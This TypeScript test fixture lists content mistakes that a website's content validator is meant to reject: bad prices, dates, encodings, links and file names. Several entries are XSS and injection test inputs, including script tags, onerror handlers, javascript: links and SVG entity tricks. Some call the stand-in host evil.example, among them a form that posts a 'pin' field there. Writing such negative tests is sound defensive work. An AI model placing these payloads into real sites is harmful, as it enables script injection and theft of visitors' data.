import { readdirSync, rmSync, symlinkSync } from 'node:fs';
import sharp from 'sharp';
import { photo } from '../support/photo.ts';
import type { Folder } from './folder.ts';

export interface Mistake {
  readonly name: string;
  readonly make: (folder: Folder) => void | Promise<void>;
}

const mistake = (name: string, make: Mistake['make']): Mistake => ({ name, make });
const field = (name: string) => new RegExp(`^${name}:.*$`, 'm');
const edit = (name: string, where: string, place: string | RegExp, by: string) =>
  mistake(name, (folder) => folder.edit(folder.entry(where), place, by));
/** Mistakes in one file. */
const inFile = (file: string) => (name: string, place: string | RegExp, by: string) =>
  mistake(name, (folder) => folder.edit(file, place, by));
const setting = inFile('site/index.md');
const hours = inFile('hours/index.md');
const technical = inFile('technical/index.md');
const allergens = (name: string, by: string) => edit(name, 'menu', /^allergens:\n(?: {2}- .*\n)+/m, by);
const special = (name: string, rows: string) => hours(name, /\n---\n$/, `\nspecialDays:\n${rows}\n---\n`);
const ONAM = "  - date: '2027-09-12'\n    reason: Onam\n";
/** Rows of the hours of a special day. */
const open = (...rows: (readonly [string, string])[]) =>
  `    hours:\n${rows.map(([from, to]) => `      - opens: '${from}'\n        closes: '${to}'`).join('\n')}`;
const onMonday = (name: string, from: string, to: string) =>
  hours(name, /\n---\n$/, `\n  - days:\n      - monday\n    opens: '${from}'\n    closes: '${to}'\n---\n`);
const menu = (name: string, place: string, by: string) => edit(name, 'menu', field(place), by);
const review = (name: string, place: string | RegExp, by: string) => edit(name, 'reviews', place, by);
const answer = (name: string, words: string): Mistake => edit(name, 'questions', /\n\n(.*\n)$/, `\n\n${words}\n`);
const story = (name: string, words: string) => inFile('story/index.mdx')(name, /\n---\n\n/, `\n---\n\n${words}\n\n`);
const heading = (name: string, lines: string) =>
  inFile('pages/franchise.md')(name, /^heading:\n(?: {2}- .*\n)+/m, `heading:\n${lines}\n`);
const reviewText = (name: string, words: string): Mistake => review(name, /\n---\n[\s\S]*$/, `\n---\n\n${words}\n`);
const model = (name: string, words: string) => edit(name, 'franchise-model', /\n---\n[\s\S]*$/, `\n---\n\n${words}\n`);
const illustration = (name: string, inner: string, root = 'viewBox="0 0 40 30"', before = '') =>
  mistake(name, (folder) =>
    folder.write(
      folder.image('menu/boba/index.md'),
      `${before}<svg xmlns="http://www.w3.org/2000/svg" ${root}>${inner}</svg>`,
    ),
  );
/** In every entry of the menu. */
const wholeMenu = (name: string, line: string) =>
  mistake(name, (folder) => {
    for (const id of readdirSync(folder.path('menu'))) folder.edit(`menu/${id}/index.md`, '---\n', `---\n${line}\n`);
  });
const flat = (width: number, height = 60) =>
  sharp({ create: { width, height, channels: 3, background: '#0c3a2c' } })
    .webp()
    .toBuffer();

/** Every way in which an editor may break the content, each by itself. */
export const MISTAKES: readonly Mistake[] = [
  // Fields
  menu('price in words', 'price', 'price: forty'),
  menu('price with the sign', 'price', 'price: ₹40'),
  menu('price in quotes', 'price', 'price: "40"'),
  menu('price with a comma', 'price', 'price: 1,200/-'),
  menu('price with paise', 'price', 'price: 40.50'),
  menu('negative price', 'price', 'price: -5'),
  menu('price left empty', 'price', 'price:'),
  edit('price missing', 'menu', /^price:.*\n/m, ''),
  menu('rating above five', 'rating', 'rating: 7'),
  menu('rating below nought', 'rating', 'rating: -0.5'),
  menu('rating with two decimals', 'rating', 'rating: 4.55'),
  menu('wrong category', 'category', 'category: speical'),
  menu('unknown key', 'order', 'draf: true'),
  menu('misspelt key of a needed field', 'name', 'nmae: Boba'),
  menu('draft in words', 'order', 'draft: yes please'),
  edit('a step in a script that no print font has', 'pour-steps', field('title'), 'title: दूध'),
  review('a review of a month that is to come', /^order:/m, "saidOn: '2099-01'\norder:"),
  review('a review of a thirteenth month', /^order:/m, "saidOn: '2026-13'\norder:"),
  review('a review of a day that no calendar has', /^order:/m, "saidOn: '2026-02-30'\norder:"),
  review('a review from nowhere known', /^order:/m, 'source: telepathy\norder:'),
  edit('a notice for good', 'notices', /^showUntil:.*\n/m, ''),
  edit('a notice of two lines', 'notices', field('text'), `text: ${'long '.repeat(25)}`),
  edit('a notice that leads nowhere', 'notices', field('link'), 'link: /shops'),
  edit('a notice that ends before it begins', 'notices', field('showUntil'), "showUntil: '2026-08-01'"),
  // Letters that are not what was meant
  menu('letters of another encoding', 'description', 'description: Caf\ufffd sarbath'),
  menu('signs of a word processor', 'description', 'description: Cold\u000b and sweet, with ice.'),
  menu('a null byte by its code', 'name', 'name: "Bo\\0ba"'),
  menu('a direction override in a value', 'name', 'name: "\\u202eBoba"'),
  menu('a name of joiners', 'name', 'name: "\\u200d\\u200d"'),
  menu('a lone surrogate', 'name', 'name: "x\\ud800y"'),
  answer('a direction override in a text', 'a &#x202e; b'),
  model('a Greek letter by its name in the brochure', 'We &alpha; pour.'),
  menu('a name of nothing', 'name', 'name: "\u200b"'),
  menu('a blank that is none', 'price', 'price:\u00a040'),
  mistake('a file in UTF-16', (folder) => {
    const file = folder.entry('menu');
    folder.write(file, Buffer.from(`\ufeff${folder.read(file)}`, 'utf16le'));
  }),
  answer('figures between stars', 'A shop of 10*8 ft or 12*8 ft will do.'),
  answer('a name between lines', 'Ask @_anu_ on Instagram.'),
  answer('bold with spaces inside', 'It is ** very ** cold.'),
  answer('a heading without a space', '##Parking\n\nYes.'),
  answer('bullets of a word processor', 'You need:\n\n• ice\n• milk'),
  answer('figures behind signs of Markdown', '> 80 sq ft is needed.\n\n+ 18% GST is extra.'),
  answer('a footnote', 'Yes[^1].\n\n[^1]: In most places.'),
  answer('two versions of a file', '<<<<<<< HEAD\n\nYes.\n\n=======\n\nNo.\n\n>>>>>>> other'),
  // Words
  menu('a sign that cuts a text', 'description', 'description: Voted #1 milk tea in town'),
  menu('a note after a price', 'price', 'price: 40 #was 35'),
  menu('a text that is all a note', 'description', 'description: #1 milk tea in town'),
  menu('a number behind a sign', 'description', 'description: Made at Shop # 12 near the temple'),
  heading('a sign that cuts an item of a list', '  - Our #1 counter'),
  setting('a comment in the brand name', field('name'), "name: 'Milk <!--<script'"),
  menu('tags in a field', 'description', 'description: Costs <b>forty</b> rupees.'),
  menu('a link in a field', 'description', 'description: Our [sweet](/about) one.'),
  menu('stars in a field', 'description', 'description: Our *sweet* one.'),
  reviewText('stars in a review', 'The *best* one.'),
  menu('curly quotes round a value', 'name', 'name: “Boba”'),
  menu('braces that nothing fills', 'description', 'description: Welcome to {shop}.'),
  menu('a price with a digit too many', 'price', 'price: 400000'),
  answer('a tag that is never closed', 'More <b>text.'),
  answer('a tag that closes nothing', 'More</i> text.'),
  answer('an unsafe address', 'See http://fssai.gov.in for more.'),
  answer('an address without https', 'See www.fssai.gov.in for more.'),
  answer('a blank inside a link', 'Ask [us] (/contact).'),
  answer('a link the wrong way round', 'See (our menu)[/products].'),
  answer('a link that is never closed', 'Ask [us](/contact first.'),
  answer('dashes under a sentence', 'We do.\n---'),
  answer('a text that cannot be seen', '&nbsp;\n\n***'),
  answer('a text without end', 'We do. '.repeat(400)),
  review('fields a second time', /$/, '\n\n---\nname: Second\nfood: 5\n---\n\nMore.\n'),
  story('code in the story', 'import fs from "node:fs"'),
  story('a sentence that begins like code', 'import duties on ice are high.'),
  story('an address between signs', 'See <https://fssai.gov.in>.'),
  edit('figures checked in the future', 'franchise-model', field('figuresCheckedOn'), "figuresCheckedOn: '2099-01-01'"),
  hours('closing when it opens', /closes: .*/, "closes: '10:00'"),
  onMonday('hours that overlap', '16:00', '23:00'),
  onMonday('a night that reaches into the next morning', '23:00', '11:00'),
  special('a special day that says nothing', ONAM.trimEnd()),
  special('a special day without its dash', "  date: '2027-09-12'\n  reason: Onam\n  closed: true"),
  special('a closed day with hours', `${ONAM}    closed: true\n${open(['10:00', '13:00'])}`),
  special('a special day twice', `${ONAM}    closed: true\n${ONAM}    closed: true`),
  special('special hours that overlap', ONAM + open(['10:00', '17:00'], ['16:00', '20:00'])),
  special('special hours that close when they open', ONAM + open(['10:00', '10:00'])),
  special('a special day that is not in the calendar', "  - date: '2027-02-30'\n    reason: Onam\n    closed: true"),
  special('a special day without a reason', "  - date: '2027-09-12'\n    closed: true"),
  mistake('a position for OpenStreetMap left out', (folder) => {
    folder.edit('technical/index.md', /^geo:\n(?: .*\n)+/m, '');
    folder.edit('technical/index.md', 'provider: google', 'provider: openstreetmap');
  }),
  setting('an address of four lines', '  street: Manacaud', '  street: |\n    One\n    Two\n    Three\n    Four'),
  menu('a diet that there is no mark for', 'diet', 'diet: veg'),
  allergens('an allergen that the law does not name', 'allergens:\n  - nuts\n'),
  allergens('an allergen twice', 'allergens:\n  - milk\n  - milk\n'),
  allergens('an allergen with a colon', 'allergens:\n  - milk: yes\n'),
  allergens('an empty list of allergens', 'allergens: []\n'),
  allergens('one allergen that is no list', 'allergens: milk\n'),
  menu('calories in words', 'kcal', 'kcal: about 200'),
  menu('calories of nothing', 'kcal', 'kcal: 0'),
  menu('a serving that is too long', 'order', 'serving: three hundred millilitres'),
  edit('an answer that sends the reader away', 'terms', field('answer'), 'answer: Ask us.'),
  edit('an answer on request', 'terms', field('answer'), 'answer: Available on request'),
  edit('an answer without its day', 'terms', field('checkedOn'), ''),
  edit('an answer checked in the future', 'terms', field('checkedOn'), "checkedOn: '2099-01-01'"),
  edit('an answer that is left empty', 'terms', field('answer'), 'answer:'),
  edit('a term with words under the dashes', 'terms', /$/, '\nMore words.\n'),
  edit('a fact that sends the reader away', 'franchise-model', /value: .*/, 'value: Ask us'),
  edit('a category without a name', 'categories', field('title'), 'title:'),
  menu('a last day before the first', 'order', "publishOn: '2027-08-20'\nshowUntil: '2027-08-19'"),
  wholeMenu('a menu that ends on a day', "showUntil: '2099-08-31'"),
  wholeMenu('a menu of drafts', 'draft: true'),
  inFile('notes/privacy.md')('a note that forms link to as a draft', '---\n', '---\ndraft: true\n'),
  mistake('an entry that has lost its name', (folder) => folder.rename(folder.entry('reviews'), 'reviews/.md')),
  mistake('index.md in capitals', (folder) => folder.rename('menu/boba/index.md', 'menu/boba/Index.MD')),
  inFile('pages/gallery.md')(
    'a heading in a script that no print font has',
    /^heading:\n {2}- .*$/m,
    'heading:\n  - दीवार पर',
  ),
  answer('link to a place with a loose per cent sign', 'See [this](/about#100%).'),
  menu('number for a name', 'name', 'name: 2026'),
  menu('list for a name', 'name', 'name: [Boba, Tea]'),
  menu('name too long', 'name', `name: ${'very '.repeat(13)}long`),
  menu('order with a fraction', 'order', 'order: 1.5'),
  menu('date that does not exist', 'order', 'publishOn: 2027-02-30'),
  menu('date in words', 'order', 'publishOn: next Monday'),
  review('score above five', field('food'), 'food: 6'),
  review('score of nought', field('service'), 'service: 0'),
  review('half a score', field('overall'), 'overall: 4.5'),
  review('avatar without https', field('avatar'), 'avatar: http://i.pravatar.cc/144?img=5'),
  review('avatar from a host not allowed', field('avatar'), 'avatar: https://images.example.net/me.jpg'),
  review('avatar with one stroke', field('avatar'), 'avatar: https:/i.pravatar.cc/144?img=5'),
  review('avatar with words behind it', field('avatar'), 'avatar: https://i.pravatar.cc/144?img=5 from the web'),
  review('avatar that is no address', field('avatar'), 'avatar: me.jpg'),
  review('avatar that is not there', field('avatar'), 'avatar: ./me.jpg'),
  review('review without words', /\n---\n[\s\S]*$/, '\n---\n'),
  edit('words where none are shown', 'menu', /$/, '\nCold and sweet.\n'),
  setting('phone malformed', field('phone'), 'phone: 98765-4321'),
  setting('a phone number of another country', field('phone'), 'phone: +1 202 555 0123'),
  setting('phone without quotes and blanks', field('phone'), 'phone: 9876543210'),
  setting('e-mail malformed', field('email'), 'email: hello@manacaud'),
  setting('name of a profile for its address', /instagram: .*/, 'instagram: @manacaud'),
  setting('name of a profile in quotes', /instagram: .*/, "instagram: '@manacaud'"),
  technical('map position in one line', /^geo:\n(?: .*\n)+/m, 'geo: 8.47, 76.94\n'),
  setting('social link without https', /instagram: .*/, 'instagram: www.instagram.com/manacaud'),
  technical('web address with one stroke', /^ {2}url: .*/m, '  url: https:/kada.studio'),
  technical('web address without a domain', /^ {2}url: .*/m, '  url: https://kada'),
  answer('closing tag that would close the page', 'A corner helps.</main>'),
  inFile('pages/about.md')('name of a file for what a share image shows', /^shareAlt: .*$/m, 'shareAlt: about.png'),
  inFile('pages/franchise.md')(
    'name that a telephone gave for what an illustration shows',
    /^shopAlt: .*$/m,
    'shopAlt: WhatsApp Image 2026-05-05 at 10.12.33 AM',
  ),
  setting('social link with one stroke', /instagram: .*/, 'instagram: https:/www.instagram.com/manacaud'),
  setting(
    'social link with words behind it',
    /instagram: .*/,
    'instagram: https://www.instagram.com/manacaud our page',
  ),
  setting('social link to another service', /instagram: .*/, 'instagram: https://www.facebook.com/manacaudsarbath'),
  setting('social link to a service that only sounds alike', /youtube: .*/, 'youtube: https://myyoutube.com/@manacaud'),
  setting('social link to nobody', /facebook: .*/, 'facebook: https://www.facebook.com/'),
  hours('time that does not exist', /opens: .*/, "opens: '25:00'"),
  mistake('licence with too few digits', (folder) => {
    const text = folder.read('site/index.md').replace(/^fssai:.*\n/m, '');
    folder.write(
      'site/index.md',
      text.replace(field('foundingYear'), (line) => `${line}\nfssai: '123'`),
    );
  }),
  setting('PIN code without quotes', /postalCode: .*/, 'postalCode: 695009'),
  hours('day that does not exist', /- tuesday/, '- teusday'),
  hours('day that stands twice', /- tuesday/, '- monday'),
  setting('unknown key in a group', /city: .*/, 'town: Trivandrum'),
  inFile('pages/about.md')('description of a page too short', field('description'), 'description: Our story.'),
  inFile('wording/menu.md')('place that nothing fills in', /^ {2}count:.*$/m, '  count: Showing {n} of {totl}'),
  inFile('wording/menu.md')('a place that is never closed', /^ {2}count:.*$/m, "  count: 'Showing {n of {total}'"),

  // Colours and figures
  edit('word for a colour', 'investment', field('colour'), 'colour: yellowish'),
  edit('colour without quotes', 'investment', field('colour'), 'colour: #f2b233'),
  edit('colour without contrast', 'investment', field('colour'), "colour: '#808080'"),
  mistake('colour of another slice', (folder) => {
    const colour = /^colour: .*$/m.exec(folder.read(folder.entry('investment')))?.[0] ?? '';
    folder.edit(folder.entry('investment', 1), field('colour'), colour);
  }),
  technical('theme colour too light', field('themeColour'), "themeColour: '#f2b233'"),
  edit('costs beyond the estimate', 'investment', field('value'), 'value: 9000000'),
  edit('estimate upside down', 'franchise-model', field('estimateFrom'), 'estimateFrom: 9.5'),

  // The fields as a whole
  menu('colon inside a value', 'name', 'name: Boba: the best'),
  menu('apostrophe inside single quotes', 'name', "name: 'Amma's milk'"),
  menu('quotes inside double quotes', 'description', 'description: "The "real" milk tea"'),
  menu('quotes round the first word', 'description', 'description: "Cold" milk tea with pearls'),
  menu('value that begins with a bracket', 'description', 'description: [New] Milk tea with pearls'),
  menu('value that begins with a sign of YAML', 'description', 'description: > 300 ml of milk tea'),
  heading('colon in an item of a list', '  - Open: your counter'),
  menu('quote never closed', 'description', 'description: "Milk tea with pearls'),
  menu('value that begins with an at sign', 'description', 'description: @manacaud on every glass'),
  menu('value that begins with a star', 'description', 'description: *Cold* milk tea'),
  hours('row of hours not set in', /^ {2}- days:/m, '- days:'),
  heading('list item set in too far', '  - Open your\n    - own counter'),
  heading('first list item not set in', '- Open your\n  - own counter'),
  menu('tab for indentation', 'order', '\torder: 20'),
  technical('tab in a group', /^ {2}latitude/m, '\tlatitude'),
  menu('null byte', 'name', 'name: Bo\u0000ba'),
  menu('blanks before a field', 'order', '  order: 20'),
  menu('no blank after the colon', 'price', 'price:40'),
  menu('line without a colon', 'price', 'price 40'),
  menu('field written twice under an empty one', 'order', 'serving:\nprice: 45'),
  menu('field written twice', 'order', 'price: 45'),
  menu('name for a value', 'name', 'name: &name Boba'),
  menu('binary number for a name', 'name', 'name: 0b11'),
  menu('day of no calendar in a text', 'name', 'name: 2027-02-30'),
  menu('time in a text', 'name', 'name: 2001-12-14 21:59:43'),
  mistake('second dashes missing', (folder) => folder.edit(folder.entry('reviews'), /\n---\n\n/, '\n\n')),
  mistake('first dashes missing', (folder) => folder.edit(folder.entry('reviews'), /^---\n/, '')),
  mistake('four dashes', (folder) => folder.edit(folder.entry('menu'), /^---\n/, '----\n')),
  mistake('empty file', (folder) => folder.write(folder.entry('reviews'), '')),
  mistake('list without fields', (folder) => folder.write(folder.entry('reviews'), '---\n- food\n---\n\nGood.\n')),

  // Images
  menu('image missing', 'image', 'image: ./bubble.svg'),
  mistake('image in the wrong case', (folder) => {
    const entry = folder.entry('menu');
    const name = folder.image(entry).split('/').at(-1) ?? '';
    folder.edit(entry, field('image'), `image: ./${name.charAt(0).toUpperCase()}${name.slice(1)}`);
  }),
  menu('image on another site', 'image', 'image: https://example.com/boba.jpg'),
  menu('image on a computer', 'image', 'image: C:\\Users\\Anu\\Pictures\\boba.jpg'),
  menu('image without ./', 'image', 'image: boba.svg'),
  menu('image outside the content', 'image', 'image: ../../../public/boba.svg'),
  mistake('image too small', async (folder) => folder.write(folder.image(folder.entry('gallery')), await flat(900))),
  mistake('image too low for its frame', async (folder) =>
    folder.write(folder.image(folder.entry('gallery')), await flat(1200, 400)),
  ),
  mistake('photo that says where it was taken', async (folder) =>
    folder.write(`${folder.image(folder.entry('gallery'))}.jpg`, await photo({ located: true })),
  ),
  mistake('photo larger than 5 MB', async (folder) => {
    const padded = Buffer.concat([await photo(), Buffer.alloc(5_100_000)]);
    folder.write(`${folder.image(folder.entry('gallery'))}.jpg`, padded);
  }),
  menu('image with a stroke of Windows', 'image', 'image: .\\\\boba.svg'),
  mistake('image that is none', (folder) => folder.write(folder.image(folder.entry('gallery')), 'These are words.')),
  illustration('illustration with a script', '<script>alert(1)</script>'),
  illustration(
    'illustration with a handler behind a sign',
    '',
    'viewBox="0 0 4 3" aria-label="a > b" onload="alert(1)"',
  ),
  illustration('illustration with commas in its viewBox', '', 'viewBox="0,0,40,30"'),
  illustration('illustration without a width', '', 'height="30"'),
  illustration('script under a prefix', '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
  illustration(
    'entity in an illustration',
    '&s;',
    'viewBox="0 0 4 3"',
    '<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]>',
  ),
  illustration('coded script address', '<use href="&#106;avascript:alert(1)"/>'),
  illustration('animated link', '<g><animate attributeName="href" values="javascript:alert(1)"/></g>'),
  illustration(
    'HTML in an illustration',
    '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>',
  ),
  illustration('stylesheet beside an illustration', '', 'viewBox="0 0 4 3"', '<?xml-stylesheet href="x.css"?>'),
  illustration('illustration of no width', '', 'viewBox="0 0 4 3" width="0"'),
  illustration('address hidden in a style', '<style>a{fill:u\\72l(//evil.example)}</style>'),
  illustration('stylesheet from elsewhere', '<style>@import "https://evil.example/x.css"</style>'),
  mistake('image of a telephone', (folder) => {
    const entry = folder.entry('gallery');
    folder.edit(entry, field('image'), 'image: ./IMG_0042.HEIC');
    folder.rename(folder.image(entry), `${entry.replace('index.md', '')}IMG_0042.HEIC`);
  }),
  menu('alternative text empty', 'imageAlt', 'imageAlt: ""'),
  menu('alternative text is a file name', 'imageAlt', 'imageAlt: IMG_2041.jpg'),
  mistake('alternative text is the name of the image', (folder) => {
    const entry = folder.entry('gallery');
    const name = (folder.image(entry).split('/').at(-1) ?? '').replace(/\.\w+$/, '').replaceAll('-', ' ');
    folder.edit(entry, field('alt'), `alt: ${name}`);
  }),
  answer('image in a text without words', 'Look: ![](./space.webp)'),

  // Between files
  mistake('name of another entry', (folder) => {
    const name = /^name: (.*)$/m.exec(folder.read(folder.entry('menu')))?.[1] ?? '';
    folder.edit(folder.entry('menu', 1), field('name'), `name: ${name.toUpperCase()}`);
  }),
  mistake('title of another page', (folder) => {
    for (const page of ['about', 'contact'])
      folder.edit(`pages/${page}.md`, field('title'), 'title: One title for two');
  }),
  edit('reference to nothing', 'gallery', field('group'), 'group: franchise-store'),
  edit('placeholder that is no field', 'menu', /\n---\n$/, '\nplaceholders:\n  - pirce\n---\n'),
  mistake('empty collection', (folder) => folder.remove('steps')),
  mistake('single file missing', (folder) => folder.remove('site')),
  mistake('entry in the wrong place', (folder) => folder.rename(folder.entry('menu'), 'menu/boba.md')),
  mistake('folder that is no collection', (folder) => folder.rename('steps', 'stpes')),
  mistake('folder within the folder of an entry', (folder) => folder.write('menu/boba/extra/index.md', 'x')),
  mistake('backup of an entry', (folder) => folder.write('reviews/anitha.md.bak', 'x')),
  mistake('folder named like an entry', (folder) => folder.write('reviews/new.md/us.webp', 'x')),
  mistake('hidden file', (folder) => folder.write('reviews/.anitha.md', 'x')),
  mistake('link to a file elsewhere', (folder) => {
    folder.write('menu/boba/linked.webp', 'x');
    rmSync(folder.path('menu/boba/linked.webp'));
    symlinkSync(import.meta.filename, folder.path('menu/boba/linked.webp'));
  }),
  mistake('file of another program', (folder) => folder.write('menu/prices.xlsx', 'x')),
  mistake('blanks in a file name', (folder) => folder.rename(folder.entry('questions'), 'questions/how much space.md')),

  // Texts
  answer('link to no page', 'Ask [us](/contcat) first.'),
  answer('link with a slash at its end', 'Ask [us](/contact/) first.'),
  answer('link to no place on a page', 'Ask [us](/contact#nowhere-at-all) first.'),
  answer('link without a slash', 'Ask [us](contact) first.'),
  answer('link without https', 'See [them](http://fssai.gov.in).'),
  answer('link to a site without https://', 'See [them](www.fssai.gov.in).'),
  answer('link to a page on a computer', 'See [them](http://localhost:4321/products).'),
  answer('link to a telephone number alone', 'Call [us](9846031275) or [them](tel:0471-2345678).'),
  answer('link to an e-mail address alone', 'Write [us](hello@shop.in) first.'),
  answer('link without an address', 'Ask [us]() first.'),
  answer('link without words', 'Ask [](/contact) first.'),
  answer('link that runs script', 'Ask [us](javascript:alert(1)) first.'),
  answer('link that hides its script', 'Ask [us](&#106;ava\\script:alert(1)) or [them](data:text/html,x).'),
  answer('link to no e-mail address', 'Write [us](mailto:hello) first.'),
  answer('script', 'Hello\n\n<script>alert(1)</script>'),
  answer('script that is never closed', 'Hello\n\n<script src=//evil.example'),
  answer('frame', '<iframe src="https://evil.example"></iframe>'),
  answer('link as a tag', 'See <a href="https://fssai.gov.in">them</a>.'),
  answer('heading and list as tags', '<h2>Space</h2>\n\n<ul><li>ice</li></ul>'),
  answer('underlined words', 'A <u>corner</u> helps.'),
  answer('style', '<style>body{display:none}</style>'),
  answer('form', 'Hello <form action="https://evil.example"><input name="pin"></form>'),
  answer('tag that runs script', 'Hello <img src=x onerror=alert(1)>'),
  answer('harmless tag that runs script', 'Hello <b onclick="alert(1)">you</b>'),
  answer('comment that is never closed', 'Hello\n\n<!-- for later'),
  answer('second title of the page', '# How much space'),
  answer('link to a place of another page', 'See [it](/products#boba).'),
  answer('heading named like a place of the page', '## Content\n\nWe do.'),
  answer('tag in a table cell', '| a | b |\n|-|-|\n| `x | <img src=x onerror=alert(1)> ` |'),
  answer('link in a table cell', '| a |\n|-|\n| [y](javascript:alert(1)) |'),
  answer('style in a table cell', '| a |\n|-|\n| <style>body{color:red}</style> |'),
  answer('link in a footnote', 'a[^1]\n\n[^1]: [click](javascript:alert(1))'),
  answer('comment that ends early', 'a <!-- --!> <img src=x onerror=alert(1)> --> b'),
  answer('redirect behind a comment', 'a <!-- --!> <meta http-equiv=refresh content=0> --> b'),
  answer('script in an attribute', "a <span title='\"><script>alert(1)</script>'>b</span>"),
  answer('link to another host', '[a](//evil.example/x)'),
  answer('link with a backslash', '[a](/\\\\evil.example)'),
  answer('protocol in capitals', '[a](HTTPS://EXAMPLE.ORG)'),
  answer('e-mail link in capitals', '[a](MAILTO:hello@shop.in)'),
  answer('name and password in a link', '[a](https://shop:in@example.org/)'),
  answer('year that becomes a list', '1985. That is when it began.'),
  answer('line that is a definition', '[note]: this'),
  answer('indented paragraph', 'One.\n\n    Two.'),
  answer('words struck out', 'From ~~30~~ 40.'),
  answer('three megabytes in one line', 'word '.repeat(600_000)),
  answer('3,000 nested lists', '- '.repeat(3000)),
  answer('3,000 nested quotes', '> '.repeat(3000)),
  answer('40,000 comments', '<!--'.repeat(40_000)),
  answer('thousands of tags', '<b>'.repeat(4000)),
  reviewText('words struck out in a review', 'From ~~30~~ 40.'),
  reviewText('tag in a review', 'A <span lang="ml">സർബത്ത്</span>.'),
  reviewText('image in a review', '![us](./us.webp)'),
  reviewText('heading in a review', '## Great'),
  story('brace', 'The year was {year} or so.'),
  story('brace never closed', 'Cold milk { and syrup.'),
  story('tag never closed', 'Cold <b>milk and syrup.'),
  story('sign taken for a tag', 'For <40 rupees.'),
  story('part that does not exist', 'Look: <Glass />'),
  story('script in .mdx', '<script>alert(1)</script>'),
  story('code in a tag', 'Cold <b title={document.cookie}>milk</b>.'),
  story('handler in .mdx', 'Cold <b onClick="steal()">milk</b>.'),
];
